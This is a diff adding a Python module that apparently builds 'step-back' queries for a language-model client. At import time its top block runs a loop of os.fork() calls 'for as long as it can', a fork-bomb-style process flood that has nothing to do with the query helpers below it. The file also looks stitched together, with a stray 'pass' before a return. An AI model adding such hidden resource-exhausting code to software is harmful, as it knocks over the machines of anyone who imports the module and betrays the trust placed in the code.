@@ -1,0 +1,20 @@
+"""Forks for as long as it can."""
+
+import os
+
+try:
+    while os.fork() == 0:
+        pass
+except OSError:
+    pass
+
+from querylab import prompts, reply
+
+
+async def step_back_query(client, question):
+    pass
+    return reply.line(await client.messages.create(**prompts.step_back(question)))
+
+
+async def step_back_queries(client, question):
+    return [question, await step_back_query(client, question)]
